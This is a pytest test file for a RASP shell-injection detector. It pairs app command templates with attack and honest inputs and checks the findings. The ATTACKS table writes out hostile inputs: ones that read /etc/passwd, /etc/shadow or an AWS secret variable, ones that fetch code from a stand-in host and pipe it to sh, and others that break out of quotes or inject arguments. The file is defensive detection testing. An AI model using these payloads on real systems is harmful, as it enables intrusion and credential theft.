"""The shell injection detector, judged on app commands with a user input pasted in.

Each case is an app's command (a shell line, or an argument list whose items are
templates), the user input, and what the app does to the input before pasting it: nothing,
``shlex.quote``, or decoding it once more. ``{}`` in a template receives the transformed
input.
"""

from __future__ import annotations

import os
import shlex
from collections.abc import Callable
from pathlib import Path, PurePosixPath
from urllib.parse import unquote_plus

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rasp.detectors import AttackKind
from rasp.detectors.shell import (
    MIN_INPUT_LENGTH,
    ShellLine,
    detect,
    executable,
    needles,
    shell_strings,
)

Template = str | list[str]

APP_TRANSFORMS: dict[str, Callable[[str], str]] = {
    "raw": lambda v: v,
    "quoted": shlex.quote,
    "decoded": unquote_plus,
}


def build(template: Template, value: str, transform: str = "raw") -> str | list[str]:
    pasted = APP_TRANSFORMS[transform](value)
    if isinstance(template, str):
        assert "{}" in template, "the template has no placeholder"
        return template.replace("{}", pasted)
    assert any("{}" in item for item in template), "the template has no placeholder"
    return [item.replace("{}", pasted) for item in template]


def case(
    case_id: str, template: Template, value: str, transform: str = "raw", *, xfail: str = ""
) -> object:
    marks = [pytest.mark.xfail(strict=True, reason=xfail)] if xfail else []
    return pytest.param(template, value, transform, id=case_id, marks=marks)


# App templates: shell lines.
PING = "ping -c 1 {}"
NSLOOKUP = "nslookup {} 8.8.8.8"
CONVERT = "convert {} out.png"
CONVERT_QUOTED = "convert '{}' out.png"
GREP = "grep -r '{}' /srv/logs"
ECHO = 'echo "{}"'
TAR = "tar czf /tmp/{}.tgz data"
GIT = "git log --author={} --oneline"
CAT = "cat /var/data/{}"
COPY = "cp {} /backup/"
FIND = 'find /srv -name "{}" -type f'
BASENAME = "echo $(basename {})"
BACKTICKS = "echo `basename {}`"
COUNT = "cat {} | wc -l"
NOTE = "ls /srv # requested by {}"
MAIL = "mail -s 'Welcome' {} < /tmp/body.txt"
ARITH = "echo $(( {} + 1 ))"
CURL = "curl -s '{}'"
TWICE = "echo '{}' && ls -l {}"
# Argument lists.
SH_C = ["sh", "-c", "ls -l {}"]
BASH_LC = ["bash", "-lc", "grep '{}' /srv/logs"]
ENV_SH = ["env", "LANG=C", "sh", "-c", "ping -c 1 {}"]
SUDO_SH = ["sudo", "-u", "www", "sh", "-ec", "ls {}"]
TIMEOUT_BASH = ["timeout", "5", "/bin/bash", "-c", "nslookup {}"]
BUSYBOX = ["busybox", "sh", "-c", "ls {}"]
SU = ["su", "-c", "ls {}", "backup"]
LS_ARGV = ["ls", "-l", "{}"]
PING_ARGV = ["ping", "-c", "1", "{}"]
PROGRAM = ["{}", "--version"]
SH_POSITIONAL = ["sh", "-c", 'ls -l -- "$1"', "sh", "{}"]


ATTACKS = [
    # Command separators and pipes.
    case("ping-semicolon", PING, ";id"),
    case("ping-semicolon-after-host", PING, "127.0.0.1; cat /etc/passwd"),
    case("ping-pipe", PING, "| cat /etc/passwd"),
    case("ping-and", PING, "127.0.0.1 && curl http://evil.example/x"),
    case("ping-or-glued", PING, "x||id"),
    case("ping-background", PING, "127.0.0.1 & id"),
    case("ping-trailing-semicolon", PING, "127.0.0.1;"),
    case("ping-newline", PING, "127.0.0.1\nid"),
    case("ping-crlf", PING, "127.0.0.1\r\nid"),
    case("ping-only-newline", PING, "\nid"),
    case("unicode-then-separator", CONVERT, "café;id"),
    case("tar-semicolon", TAR, "x;id"),
    case("count-pipe", COUNT, "x | id"),
    case("subshell", PING, "(id)"),
    # Substitutions and expansions.
    case("ping-substitution", PING, "$(id)"),
    case("ping-backticks", PING, "`id`"),
    case("ping-ifs", PING, "x;cat${IFS}/etc/passwd"),
    case("ifs-alone", PING, "${IFS}id"),
    case("git-substitution", GIT, "$(id)"),
    case("convert-glued-substitution", CONVERT, "x$(id)y"),
    case("nslookup-pipe-to-shell", NSLOOKUP, "$(curl evil.example|sh)"),
    case("brace-expansion", CONVERT, "{cat,/etc/passwd}"),
    case("sequence-expansion", CONVERT, "{1..9}"),
    case("process-substitution", CONVERT, "<(id)"),
    case("basename-breakout", BASENAME, "x); id; (y"),
    case("backticks-breakout", BACKTICKS, "x`; id; `y"),
    case("arithmetic-breakout", ARITH, "1 )); id; (( 1"),
    # Double quotes: expansions act there, quotes break out.
    case("echo-dq-breakout", ECHO, '"; id; "'),
    case("echo-dq-substitution", ECHO, "$(id)"),
    case("echo-dq-backticks", ECHO, "`id`"),
    case("echo-dq-variable", ECHO, "$HOME"),
    case("echo-dq-secret-variable", ECHO, "key=${AWS_SECRET_ACCESS_KEY}"),
    case("echo-dq-arithmetic", ECHO, "$((1+1))"),
    case("echo-dq-escaped-closing-quote", ECHO, "x\\"),
    case("echo-dq-escaped-quote-then-separator", ECHO, 'a\\"; id; "'),
    case("find-dq-breakout", FIND, '*" -delete -name "x'),
    # Single quotes: the only way out is a quote.
    case("convert-sq-breakout", CONVERT_QUOTED, "x'; id; '"),
    case("convert-sq-breakout-glued", CONVERT_QUOTED, "a';id;'"),
    case("grep-sq-comment", GREP, "x' /etc/shadow #"),
    case("grep-sq-apostrophe", GREP, "O'Brien"),
    case("curl-sq-breakout", CURL, "http://x' -o /tmp/pwn '"),
    case("unquoted-apostrophe", CONVERT, "it's"),
    case("unquoted-double-quote", CONVERT, 'a"b'),
    # Redirections and comments.
    case("redirect-out", PING, "x > /tmp/pwn"),
    case("redirect-out-glued", PING, "x>/tmp/pwn"),
    case("redirect-in", CONVERT, "x</etc/passwd"),
    case("redirect-fd", PING, "x 2>&1"),
    case("here-string", CONVERT, "x<<<id"),
    case("comment-hides-the-rest", PING, "#x"),
    case("comment-after-blank", TAR, "x #"),
    case("newline-out-of-comment", NOTE, "me\nid"),
    # Words split: argument injection.
    case("ping-flood-args", PING, "-f -s 65507 example.com"),
    case("tab-split", PING, "a\tb"),
    case("tar-extra-option", TAR, "x --to-command=id"),
    case("git-output-option", GIT, "x --output=/tmp/pwn"),
    case("mail-extra-recipient", MAIL, "a@example.com -c evil@example.com"),
    case("leading-blank-splits-a-path", CAT, " /etc/passwd"),
    case("trailing-backslash-joins-words", COPY, "x\\"),
    case("second-occurrence-splits", TWICE, "a b"),
    # The app decoded the input once more.
    case("decoded-semicolon", PING, "x%3Bid", "decoded"),
    case("decoded-ampersands", PING, "x%26%26id", "decoded"),
    case("decoded-plus-space", PING, "-f+-s+65507+example%2Ecom", "decoded"),
    # Argument lists that run a shell, and programs chosen by the user.
    case("sh-c-semicolon", SH_C, ";id"),
    case("bash-lc-breakout", BASH_LC, "x' /etc/shadow '"),
    case("env-sh-substitution", ENV_SH, "$(id)"),
    case("sudo-sh-and", SUDO_SH, "x && id"),
    case("timeout-bash-backticks", TIMEOUT_BASH, "x`id`"),
    case("busybox-pipe", BUSYBOX, "|id"),
    case("su-c-separator", SU, "x;id"),
    case("program-is-a-shell", PROGRAM, "/bin/sh"),
    case("program-by-name", PROGRAM, "python3"),
    case("program-behind-env", ["env", "{}", "-c", "print(1)"], "python3"),
    case("whole-shell-line", "{}", "/tmp/upload/x.sh"),
    case("whole-sh-c-string", ["sh", "-c", "{}"], "reboot"),
]  # fmt: skip


HONEST = [
    # Plain words: hosts, files, numbers, dates, e-mails, unicode.
    case("host-name", PING, "example.com"),
    case("ipv4", PING, "127.0.0.1"),
    case("ipv6", PING, "2001:db8::1"),
    case("host-with-hyphen", NSLOOKUP, "host-01.internal"),
    case("idn-host", NSLOOKUP, "xn--bcher-kva.example"),
    case("file-name", CONVERT, "report-2024.pdf"),
    case("dotted-name", TAR, "a.b"),
    case("date", TAR, "backup-2024-06-01"),
    case("timestamp", TAR, "2024-06-01T12:00:00Z"),
    case("number", PING, "42"),
    case("negative-number", ARITH, "-7"),
    case("email", GIT, "alice@example.com"),
    case("email-with-plus", GIT, "john.doe+news@example.com"),
    case("hyphenated-words", CONVERT, "well-known-name"),
    case("accents", GIT, "Zoë"),
    case("cjk", CONVERT, "東京タワー.png"),
    case("emoji", CONVERT, "party🎉.gif"),
    case("url", CONVERT, "https://example.com/a/b.png"),
    case("url-with-query", CONVERT, "https://example.com/s?q=x"),
    case("glob-star", CAT, "*.log"),
    case("glob-class", CAT, "file[1-3].txt"),
    case("tilde-path", CAT, "~/notes"),
    case("word-with-hash-inside", CONVERT, "issue#42"),
    case("balanced-quotes-in-one-word", CONVERT, '"my file".txt'),
    case("blanks-at-the-edges", PING, " example.com "),
    case("percent-decoded-once-more", PING, "example%2Ecom", "decoded"),
    # Inside single quotes anything but a quote goes.
    case("sq-spaces", CONVERT_QUOTED, "my file.txt"),
    case("sq-parentheses", CONVERT_QUOTED, "holiday photo (1).jpg"),
    case("sq-metacharacters", CONVERT_QUOTED, 'he said "hi" & left; ok | $x'),
    case("sq-substitutions", CONVERT_QUOTED, "$(id) `id` ${IFS}"),
    case("sq-regex", GREP, "^error: (a|b)+ .*$"),
    case("sq-windows-path", GREP, "C:\\Users\\x"),
    case("sq-newline", GREP, "line one\nline two"),
    case("sq-url-with-ampersand", CURL, "https://example.com/?a=1&b=2"),
    # Inside double quotes: text without an acting $, backtick or backslash.
    case("dq-words", ECHO, "hello world"),
    case("dq-apostrophe", ECHO, "O'Brien"),
    case("dq-operators", ECHO, "a; b | c & d > e"),
    case("dq-lone-dollar", ECHO, "costs 5 $"),
    case("dq-percent", ECHO, "50% off!"),
    case("dq-hash", ECHO, "it's #1"),
    case("dq-literal-backslashes", ECHO, "C:\\temp\\new"),
    case("dq-glob", FIND, "*.txt"),
    # Inside a comment, or inside the app's own substitution as a plain word.
    case("in-comment", NOTE, "alice; bob | $(x)"),
    case("in-substitution", BASENAME, "my*file.txt"),
    case("in-backticks", BACKTICKS, "a.txt"),
    # The app quoted the input with shlex.quote.
    case("shlex-separator", PING, ";id", "quoted"),
    case("shlex-apostrophes", CONVERT, "it's a 'test'", "quoted"),
    case("shlex-substitutions", CONVERT, "$(id) `id` ${IFS}", "quoted"),
    case("shlex-newline", PING, "a\nid", "quoted"),
    case("shlex-quote-soup", CONVERT, "'\"`\\'", "quoted"),
    case("shlex-in-sh-c", SH_C, "'; id; '", "quoted"),
    # Coincidences with the app's own text.
    case("coincides-with-option", "ls -l /tmp/{}", "-l"),
    case("coincides-with-glob", "find /srv -name '{}' -newer *.txt", "*.txt"),
    case("coincides-with-quoted-text", "echo 'a b' {}", "a_b"),
    # Argument lists without a shell: items are data.
    case("argv-separator", LS_ARGV, ";id"),
    case("argv-substitution", PING_ARGV, "$(id)"),
    case("argv-spaces-and-pipes", ["grep", "-r", "{}", "/srv"], "a b | c"),
    case("argv-option-value", ["git", "log", "--author={}"], "x; rm -rf /"),
    case("sh-c-positional-argument", SH_POSITIONAL, ";id"),
    case("bash-c-in-single-quotes", BASH_LC, "a b; c"),
    case("sh-running-a-script", ["sh", "/opt/job.sh", "{}"], "; id"),
    case("python-c-is-not-a-shell", ["python3", "-c", "print(1)", "{}"], "; id"),
    case("env-without-shell", ["env", "LANG=C", "ls", "{}"], "a b;c"),
    case("honest-program-argument", ["convert", "{}", "out.png"], "in.png"),
    # Known limitations.
    case("coincides-with-two-words", "cat '{}' | wc -l", "wc -l",
         xfail="input equals a multi-word structural part of the app's own template"),
    case("short-input-coincides-with-an-operator", "cmd -o {} && ls", "& ", "quoted",
         xfail="a short input also found across the app's own operator and blank"),
]  # fmt: skip

MISSED = [
    case("nested-shell-in-a-shell-line", "sh -c \"bash -c 'ls {}'\"", ";id",
         xfail="a shell inside a shell line: the inner line is only text to the outer one"),
    case("command-position-word", "{} --help", "reboot",
         xfail="a plain word in command position of a shell line is not judged"),
]  # fmt: skip


def _judged_text(command: str | list[str], reason: str) -> str:
    if isinstance(command, str):
        return command
    if reason == "is the executable":
        found = executable(command)
        assert found is not None
        return found
    [line] = shell_strings(command)
    return line


@pytest.mark.parametrize(("template", "value", "transform"), ATTACKS)
def test_attack_is_detected(template: Template, value: str, transform: str) -> None:
    command = build(template, value, transform)
    finding = detect(command, value)
    assert finding, f"missed: {command!r}"
    assert finding.kind is AttackKind.SHELL_INJECTION
    assert finding.reason
    assert finding.needle in needles(value)
    if finding.reason != "is the executable":
        text = _judged_text(command, finding.reason)
        assert text[finding.start : finding.end] == finding.needle


@pytest.mark.parametrize(("template", "value", "transform"), HONEST)
def test_honest_input_passes(template: Template, value: str, transform: str) -> None:
    assert detect(build(template, value, transform), value) is None


@pytest.mark.parametrize(("template", "value", "transform"), MISSED)
def test_known_misses(template: Template, value: str, transform: str) -> None:
    assert detect(build(template, value, transform), value)


def test_the_table_is_large_enough() -> None:
    assert len(ATTACKS) >= 45
    assert len(HONEST) >= 45
    assert len(ATTACKS) + len(HONEST) >= 100


@settings(max_examples=300, deadline=None)
@given(value=st.text(min_size=2, max_size=40))
def test_a_shlex_quoted_input_is_never_flagged(value: str) -> None:
    assert detect("cmd " + shlex.quote(value), value) is None
    assert detect(["sh", "-c", "cmd " + shlex.quote(value)], value) is None


@pytest.mark.parametrize("value", [" %27", "%27 ", " '", "' ", "'", "''", "a'b", "'\\''"])
def test_a_shlex_quoted_input_with_quotes_is_never_flagged(value: str) -> None:
    # Its quoted form holds the input, or its decoded form, across the app's quoting.
    assert detect("cmd " + shlex.quote(value), value) is None


@settings(max_examples=200, deadline=None)
@given(value=st.text(alphabet=st.sampled_from("'\"`$\\;&| \t\n(){}#%27x"), min_size=2, max_size=20))
def test_a_shlex_quoted_input_of_metacharacters_is_never_flagged(value: str) -> None:
    assert detect("cmd " + shlex.quote(value), value) is None


# --- Findings ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("template", "value", "reason"),
    [
        (PING, ";id", "adds a command separator"),
        (PING, "\nid", "adds a command separator"),
        (PING, "x|id", "adds a pipe"),
        (PING, "(id)", "adds a subshell"),
        (PING, "$(id)", "adds a command substitution"),
        (PING, "`id`", "adds a command substitution"),
        (ECHO, "$HOME", "adds a variable expansion"),
        (ECHO, "$((2*3))", "adds an arithmetic expansion"),
        (CONVERT_QUOTED, "x' y", "breaks out of a quoted string"),
        (ECHO, 'x"y', "breaks out of a quoted string"),
        (CONVERT, "it's", "opens a quoted string"),
        (PING, "a b", "spans several words"),
        (PING, "x>y", "adds a redirection"),
        (PING, "#x", "adds a comment"),
        (COPY, "x\\", "escapes the character after it"),
        (BASENAME, "x)", "breaks out of a command substitution"),
        (CONVERT, "{a,b}", "adds a brace expansion"),
        (NOTE, "x\ny", "breaks out of a comment"),
        (PROGRAM, "/bin/sh", "is the executable"),
    ],
)
def test_finding_reason(template: Template, value: str, reason: str) -> None:
    finding = detect(build(template, value), value)
    assert finding is not None and finding.reason == reason


def test_finding_points_at_the_offending_occurrence() -> None:
    value = "a b"
    command = TWICE.replace("{}", value)
    finding = detect(command, value)
    # The first occurrence lies inside single quotes; the second one splits words.
    assert finding is not None
    assert (finding.start, finding.end) == (command.rindex(value), len(command))


def test_finding_of_an_argument_list_points_into_the_shell_string() -> None:
    finding = detect(["sh", "-c", "ls -l ;id"], ";id")
    assert finding is not None and (finding.start, finding.end) == (6, 9)
    finding = detect(["/usr/bin/python3", "-V"], "/usr/bin/python3")
    assert finding is not None and (finding.start, finding.end) == (0, 16)


def test_finding_of_a_decoded_input() -> None:
    finding = detect("ping -c 1 x;id", "x%3Bid")
    assert finding is not None and finding.needle == "x;id"


def test_a_shell_line_is_lexed_once_for_many_inputs() -> None:
    line = ShellLine("convert 'a b' x;id out.png")
    assert line.judge("a b") is None
    assert line.judge("x;id")
    assert line.judge("x") is None


# --- Edges of the input -----------------------------------------------------------------


@pytest.mark.parametrize("value", ["", ";", "|", "`", "$", "\n", "'"])
def test_inputs_shorter_than_two_characters_are_ignored(value: str) -> None:
    assert MIN_INPUT_LENGTH == 2
    assert detect("ls " + value, value) is None
    assert detect([value, "x"], value) is None


def test_an_input_absent_from_the_command_is_safe() -> None:
    assert detect("ls -l /tmp", ";id") is None
    assert detect(["sh", "-c", "ls -l /tmp"], ";id") is None


def test_several_occurrences_are_all_judged() -> None:
    value = "x y"
    assert detect("grep 'x y' a && grep \"x y\" b", value) is None
    assert detect("grep 'x y' a && grep x y b", value)


# --- Types ------------------------------------------------------------------------------


class _BrokenPath(os.PathLike[str]):
    def __fspath__(self) -> str:
        raise RuntimeError("boom")


@pytest.mark.parametrize(
    ("command", "value", "flagged"),
    [
        (b"ping -c 1 ;id", ";id", True),
        (b"ping -c 1 example.com", "example.com", False),
        (bytearray(b"ls a;b"), "a;b", True),
        ("ls caf\u00e9;id".encode(), "caf\u00e9;id", True),
        (b"ls \xff\xfe;id", "\udcff\udcfe;id", True),  # surrogateescape, as the OS sees it
        (b"ls 'a b'", b"a b", False),
        (b"ls a b", b"a b", True),
        ([b"sh", b"-c", b"ls ;id"], ";id", True),
        ([b"ls", b";id"], ";id", False),
        ((PurePosixPath("/bin/sh"), "-c", "ls ;id"), ";id", True),
        ([Path("/bin/sh"), "x"], "/bin/sh", True),
        (Path("/usr/bin/python3"), "/usr/bin/python3", True),
        (Path("/usr/bin/ls"), "ls", False),
        (("ls", "-l", "a b"), "a b", False),
    ],
)
def test_types(command: object, value: object, flagged: bool) -> None:
    assert bool(detect(command, value)) is flagged  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("command", "value"),
    [
        (None, ";id"),
        (42, "42"),
        ("ls ;id", None),
        ("ls ;id", 42),
        ({"sh": "-c"}, "-c"),
        (iter(["sh", "-c", "ls ;id"]), ";id"),
        ([], "ab"),
        ([None, 3, object()], "ab"),
        (["sh", "-c", None], "ab"),
        (_BrokenPath(), "ab"),
        ([_BrokenPath(), "-c", "ls ;id"], ";id"),
        (["sh", "-c"], "-c"),
        (["env", "--", "-"], "--"),
        (["sudo", "-u"], "-u"),
        (["timeout"], "timeout"),
    ],
)
def test_values_that_cannot_be_judged_are_not(command: object, value: object) -> None:
    # Total: no exception, whatever the types; the last three are the executable itself.
    finding = detect(command, value)  # type: ignore[arg-type]
    assert finding is None or finding.reason == "is the executable"


# --- Argument lists ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("ls -l", ["ls -l"]),
        (b"ls -l", ["ls -l"]),
        (["ls", "-l"], []),
        (Path("/bin/sh"), []),
        (["sh", "-c", "ls"], ["ls"]),
        (["/bin/bash", "-xec", "ls", "name", "arg"], ["ls"]),
        (["bash", "--norc", "-o", "pipefail", "-c", "ls"], ["ls"]),
        (["bash", "-O", "extglob", "-c", "--", "ls"], ["ls"]),
        (["bash", "--rcfile", "/x", "-c", "ls"], ["ls"]),
        (["sh", "script.sh", "-c", "ls"], []),
        (["sh", "-s", "ls"], []),
        (["sh", "-c"], []),
        (["fish", "--command=ls"], ["ls"]),
        (["fish", "--command", "ls"], ["ls"]),
        (["zsh", "-fc", "ls"], ["ls"]),
        (["busybox", "sh", "-c", "ls"], ["ls"]),
        (["busybox", "ls", "-c", "x"], []),
        (["env", "-i", "A=1", "B=2", "sh", "-c", "ls"], ["ls"]),
        (["env", "-u", "X", "--", "sh", "-c", "ls"], ["ls"]),
        (["sudo", "-u", "www", "-E", "bash", "-c", "ls"], ["ls"]),
        (["nice", "-n", "10", "nohup", "sh", "-c", "ls"], ["ls"]),
        (["timeout", "-s", "KILL", "5s", "sh", "-c", "ls"], ["ls"]),
        (["xargs", "-0", "-I", "{}", "sh", "-c", "ls {}"], ["ls {}"]),
        (["chroot", "/srv/jail", "sh", "-c", "ls"], ["ls"]),
        (["su", "-", "backup", "-c", "ls"], ["ls"]),
        (["su", "--command=ls", "backup"], ["ls"]),
        (["python3", "-c", "import os"], []),
    ],
)
def test_shell_strings(command: object, expected: list[str]) -> None:
    assert shell_strings(command) == expected  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("ls -l", None),
        (b"ls", None),
        (["ls", "-l"], "ls"),
        ([b"/bin/ls"], "/bin/ls"),
        ((Path("/bin/ls"), "-l"), "/bin/ls"),
        (Path("/bin/ls"), "/bin/ls"),
        ([], None),
        ([3], None),
        (None, None),
        (_BrokenPath(), None),
    ],
)
def test_executable(command: object, expected: str | None) -> None:
    assert executable(command) == expected  # type: ignore[arg-type]


# --- Needles ----------------------------------------------------------------------------


def test_needles_cover_the_common_app_transformations() -> None:
    assert needles("a;b") == ["a;b"]
    assert needles("a%3Bb") == ["a%3Bb", "a;b"]
    assert needles("a%3B+b") == ["a%3B+b", "a;+b", "a; b"]
    assert needles("a+b") == ["a+b"]
    assert needles("%3B") == ["%3B"]  # one character decoded: never judged
